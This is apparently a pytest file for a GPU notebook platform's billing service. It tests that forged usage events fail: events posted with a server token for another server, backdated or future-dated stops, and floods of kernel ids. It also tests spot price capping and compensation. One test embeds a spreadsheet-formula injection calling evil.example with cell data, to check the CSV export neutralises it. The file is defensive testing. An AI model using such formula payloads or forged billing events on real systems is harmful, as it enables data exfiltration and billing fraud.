"""Attacks on billing from inside a user's server, through the public HTTP API, and what still works.

A real hub starts the real billing service; real servers run real kernels whose reporter posts with
the server's own token. The attacker is the user: they read that token from a notebook
(``JUPYTERHUB_API_TOKEN``) and post what they like. Each attack must now lose (403/400, nothing
changed, the charge unchanged), and the legitimate path must keep working. Also: spot is never
charged above the bid, a reclaim that lost work is compensated, and the CSV holds no formulas.
"""

from __future__ import annotations

import csv
import io
import re
import time
import uuid
from datetime import datetime
from decimal import ROUND_HALF_EVEN, Decimal, localcontext
from pathlib import Path

import pytest
from billing.client import Billing, user_token
from harness import Hub, wait_for

HB = 1.0
ENV = {
    "GPULAB_REPORTER_HEARTBEAT": str(HB),
    "GPULAB_REPORTER_MAX_BACKOFF": "2",
    "GPULAB_BILLING_MIN_MINUTES": "1",
    "GPULAB_BILLING_ARGS": (
        f"--BillingService.heartbeat_interval={HB} --BillingService.enforce_interval=1 "
        "--BillingService.idle_timeout=600 --BillingService.max_new_ids_per_batch=20 "
        "--BillingService.max_new_ids_per_heartbeat=5"
    ),
}
REPORT = "custom:gpulab:report-usage"


@pytest.fixture(scope="module")
def ahub(tmp_path_factory, chp_installed):
    data = Path(tmp_path_factory.mktemp("billing-attacks")) / "data"
    h = Hub(
        data,
        simulate="RTX-4090:1",
        env=ENV,
        extra_args=["--SpotMarket.tick_interval=0.5", "--SpotMarket.warning_seconds=8"],
    ).start()
    wait_for(Billing(h).up, 30, 0.2, "the billing service")
    yield h
    h.stop()


def ts(iso: str) -> float:
    return datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp()


def ev(kind: str, user: str, t: float, server: str = "", **fields) -> dict:
    return {"id": uuid.uuid4().hex, "kind": kind, "user": user, "server": server, "t": t, **fields}


def session_of(billing: Billing, user: str) -> dict:
    (s,) = billing.usage(user)["servers"]
    return s


@pytest.fixture(scope="module")
def victim(ahub):
    """A user whose no-GPU server ran kernel K for ~4 s, K closed and its stop in billing; the
    server keeps running (no kernel: nothing more is billed). Yields (user, server token, K)."""
    billing = Billing(ahub)
    user = ahub.create_user(f"v{uuid.uuid4().hex[:6]}")
    ahub.spawn_ready(user, {"gpu": "none"})
    with ahub.kernel(user) as k:
        token = k.execute("import os; print(os.environ['JUPYTERHUB_API_TOKEN'])").strip()
        time.sleep(4)
    closed = time.time()

    def settled():
        s = billing.usage(user)["servers"]
        ks = s[0]["kernels"] if s else []
        return ks and ts(ks[0]["last_seen"]) >= closed - 0.5 and s[0]["billed_seconds"] > 3

    wait_for(settled, 30, 0.5, "the kernel's stop in billing")
    yield user, token, k.id
    ahub.stop_server(user)


def test_the_server_token_holds_the_report_scope_for_its_own_server(ahub, victim) -> None:
    user, token, _ = victim
    scopes = ahub.api("GET", "/user", token).json()["scopes"]
    assert f"{REPORT}!server={user}/" in scopes
    # The user's own API token holds it only for the user as a whole, which billing does not take.
    personal = ahub.api("GET", "/user", user_token(ahub, user)).json()["scopes"]
    assert f"{REPORT}!server={user}/" not in personal


def test_reports_for_another_server_are_refused(ahub, victim) -> None:
    billing = Billing(ahub)
    user, token, _ = victim
    before = billing.usage(user)
    ghost = ev("heartbeat", user, time.time(), server="ghost", kernels=["k-ghost"])
    r = billing.post("api/v1/events", {"events": [ghost]}, token)
    assert r.status_code == 403, r.text
    assert f"server {user}/ghost" in r.json()["message"]
    assert "events[0].server" in r.json()["message"]
    # A token the user made for themself is not a server's token: refused for every server.
    mine = ev("heartbeat", user, time.time(), kernels=[])
    r = billing.post("api/v1/events", {"events": [mine]}, user_token(ahub, user))
    assert r.status_code == 403 and f"server {user}/" in r.json()["message"]
    with billing.db() as db:
        ids = {row[0] for row in db.execute("SELECT event_id FROM events WHERE user = ?", (user,))}
    assert ghost["id"] not in ids and mine["id"] not in ids
    assert billing.usage(user)["servers"] == before["servers"]


def test_a_stop_dated_1970_refunds_nothing(ahub, victim) -> None:
    """The attack from the issue: one kernel_stop at t=1.0 moved K's span to 1970, the session was
    re-rated to zero and the ledger refunded the charge."""
    billing = Billing(ahub)
    user, token, kid = victim
    before = session_of(billing, user)
    balance = billing.balance(user)["balance"]
    assert before["amount"]["micro"] > 0
    r = billing.post("api/v1/events", {"events": [ev("kernel_stop", user, 1.0, kernel=kid)]}, token)
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["field"] == "events[0].t"
    # The allowed range: the session's start (the hub's report) - 5 s to now + 5 s.
    lo, hi = map(float, re.search(r"allowed ([\d.]+) to ([\d.]+)", body["message"]).groups())
    assert abs(lo - (ts(before["started"]) - 5)) < 0.001 and abs(hi - time.time()) < 30
    # Within the session, but before what was already accepted for K: refused as well.
    early = ts(before["started"]) + 0.5
    r = billing.post(
        "api/v1/events", {"events": [ev("kernel_stop", user, early, kernel=kid)]}, token
    )
    assert r.status_code == 400 and "already accepted for kernel" in r.json()["message"]
    # Far in the future (it would extend K's span for hours): refused.
    r = billing.post(
        "api/v1/events",
        {"events": [ev("heartbeat", user, time.time() + 120, kernels=[kid])]},
        token,
    )
    assert r.status_code == 400 and r.json()["field"] == "events[0].t"
    assert session_of(billing, user) == before
    assert billing.balance(user)["balance"] == balance


def test_a_batch_takes_the_good_events_and_names_the_bad(ahub, victim) -> None:
    billing = Billing(ahub)
    user, token, kid = victim
    before = session_of(billing, user)
    good = ev("heartbeat", user, time.time(), kernels=[])
    bad = ev("kernel_stop", user, 1.0, kernel=kid)
    r = billing.post("api/v1/events", {"events": [good, bad]}, token)
    assert r.status_code == 200, r.text
    out = r.json()
    assert out["accepted"] == 1 and out["duplicates"] == 0
    ((rej),) = out["rejected"]
    assert (rej["index"], rej["id"], rej["field"]) == (1, bad["id"], "events[1].t")
    assert session_of(billing, user)["amount"] == before["amount"]
    # The reporter's retry of the same batch: the good one is a duplicate, the bad one still out.
    again = billing.post("api/v1/events", {"events": [good, bad]}, token).json()
    assert (again["accepted"], again["duplicates"], len(again["rejected"])) == (0, 1, 1)


def test_new_kernel_ids_are_capped(ahub, victim) -> None:
    billing = Billing(ahub)
    user, token, _ = victim
    before = session_of(billing, user)
    now = time.time()
    flood = ev("heartbeat", user, now, kernels=[f"f{i}" for i in range(6)])
    r = billing.post("api/v1/events", {"events": [flood]}, token)
    assert r.status_code == 400 and r.json()["field"] == "events[0].kernels"
    assert "at most 5 new ones per heartbeat" in r.json()["message"]
    batch = [ev("heartbeat", user, now, kernels=[f"b{i}-{j}" for j in range(5)]) for i in range(5)]
    r = billing.post("api/v1/events", {"events": batch}, token)
    assert r.status_code == 200, r.text
    assert r.json()["accepted"] == 4 and [x["index"] for x in r.json()["rejected"]] == [4]
    assert "at most 20 new ones per batch" in r.json()["rejected"][0]["message"]
    after = session_of(billing, user)
    names = {k["kernel_id"] for k in after["kernels"]}
    assert "f0" not in names and "b4-0" not in names and "b3-4" in names
    assert after["amount"] == before["amount"]  # each was seen once: no time, no charge


def test_csv_cells_are_never_formulas(ahub, victim) -> None:
    """A kernel id is the user's to choose: one that is a spreadsheet formula stays text."""
    billing = Billing(ahub)
    user, token, _ = victim
    evil = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
    now = time.time()
    r = billing.post(
        "api/v1/events",
        {"events": [ev("kernel_start", user, now, kernel=evil, name="@SUM(A1)")]},
        token,
    )
    assert r.status_code == 200 and r.json()["accepted"] == 1, r.text
    for text in (
        billing.get("statement.csv", token).text,  # the user's own export
        billing.get("statement.csv", params={"user": user}).text,  # the admin's
    ):
        rows = list(csv.reader(io.StringIO(text)))
        cells = [c for row in rows[1:] for c in row]
        assert "'" + evil in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
        # Numbers stay numbers.
        (server_row,) = [row for row in csv.DictReader(io.StringIO(text)) if row["row"] == "server"]
        assert Decimal(server_row["amount_CNY"]) > 0


def expected_micro(pieces: list[tuple[Decimal, Decimal]]) -> int:
    with localcontext() as ctx:
        ctx.prec = 60
        exact = sum(p * s for p, s in pieces) / 3600 * 1_000_000
        return int(exact.quantize(Decimal(1), rounding=ROUND_HALF_EVEN))


def pin(hub: Hub, price: str | None) -> None:
    r = hub.api("PUT", "/gpulab/spot/prices/rtx-4090", json={"price": price})
    assert r.status_code == 200, r.text


def test_spot_above_the_bid_is_charged_the_bid_then_compensated(ahub) -> None:
    """Bid 0.50: the price is 0.40, then rises to 0.60 and the server is reclaimed after the
    warning. The warning period is charged 0.50, not 0.60, and the statement says so. The
    platform cut the checkpoint short, so the hub posts a compensation: credited once, at the
    capped charge, shown, in the CSV. A checkpoint that failed on its own is refused."""
    billing = Billing(ahub)
    user = ahub.create_user(f"s{uuid.uuid4().hex[:6]}")
    pin(ahub, "0.40")
    try:
        ahub.spawn_ready(user, {"gpu": "rtx-4090", "pricing": "spot", "max_price": "0.5"})
        k = ahub.kernel(user)
        assert k.execute("print(6 * 7)").strip() == "42"
        time.sleep(4)
        pin(ahub, "0.60")  # above the bid: warning, then reclaim
        wait_for(lambda: ahub.server(user) is None, 60, 0.5, "the spot server to be reclaimed")
        k.ws.close()
    finally:
        pin(ahub, None)

    def stopped():
        s = billing.usage(user)["servers"]
        return s[0] if s and s[0]["stopped"] and s[0]["spot"]["capped_seconds"] > 0 else None

    s = wait_for(stopped, 30, 0.5, "the reclaimed session in billing")
    rates = [(Decimal(r["price_per_card_hour"]), r.get("price_in_force"), r) for r in s["rates"]]
    assert [(p, f) for p, f, _ in rates] == [(Decimal("0.40"), None), (Decimal("0.5"), "0.60")]
    capped = rates[1][2]
    assert capped["capped"] and capped["billed_seconds"] >= 5  # most of the 8 s warning
    (cap,) = s["spot"]["capped"]
    assert cap["seconds"] == capped["billed_seconds"] == s["spot"]["capped_seconds"]
    assert s["spot"]["bid_per_card_hour"] == "0.5"
    pieces = [(p, Decimal(str(r["billed_seconds"]))) for p, _, r in rates]
    amount = s["amount"]["micro"]
    assert amount == expected_micro(pieces)
    uncapped = expected_micro([pieces[0], (Decimal("0.60"), pieces[1][1])])
    assert uncapped > amount  # what it cost before the cap
    page = billing.get("", params={"user": user}).text
    assert "price 0.60/card-h above the bid: charged the bid 0.5/card-h" in page
    rows = list(
        csv.DictReader(io.StringIO(billing.get("statement.csv", params={"user": user}).text))
    )
    (capped_row,) = [r for r in rows if r["row"] == "rate" and r["price_in_force"]]
    assert (capped_row["price_per_card_hour"], capped_row["price_in_force"]) == ("0.5", "0.60")

    # The platform cut the checkpoint short: the hub (here with the admin's token) posts a
    # compensation. One the user's own command failed is not the platform's to compensate.
    balance = billing.balance(user)["balance"]["micro"]
    body = {
        "server": "",
        "reason": "spot-preemption",
        "checkpoint": "cut-short",
        "idempotency_key": f"preempt-{user}",
    }
    url = f"api/v1/users/{user}/compensations"
    r = billing.post(url, {**body, "checkpoint": "failed", "idempotency_key": "own-failure"})
    assert r.status_code == 400 and r.json()["field"] == "checkpoint"
    r1 = billing.post(url, body)
    assert r1.status_code == 201, r1.text
    # The default rule: the charge of the session's last 10 minutes (here: all of it).
    assert r1.json()["amount"]["micro"] == amount and r1.json()["session"] == s["session"]
    r2 = billing.post(url, body)
    assert r2.status_code == 200 and r2.json()["id"] == r1.json()["id"]
    assert billing.balance(user)["balance"]["micro"] == balance + amount
    # Only the hub's services and admins may post one.
    r = billing.post(url, {**body, "idempotency_key": "self-service"}, user_token(ahub, user))
    assert r.status_code == 403
    r = billing.post(url, {**body, "reason": "bored"})
    assert r.status_code == 400 and r.json()["field"] == "reason"
    assert billing.balance(user)["balance"]["micro"] == balance + amount
    usage = billing.usage(user)
    assert usage["compensation"]["micro"] == amount
    assert (
        "compensation: spot-preemption, checkpoint cut-short"
        in billing.get("", params={"user": user}).text
    )
    rows = list(
        csv.DictReader(io.StringIO(billing.get("statement.csv", params={"user": user}).text))
    )
    (comp,) = [r for r in rows if r["row"] == "compensation"]
    assert Decimal(comp["amount_CNY"]) == -Decimal(s["amount"]["exact"])
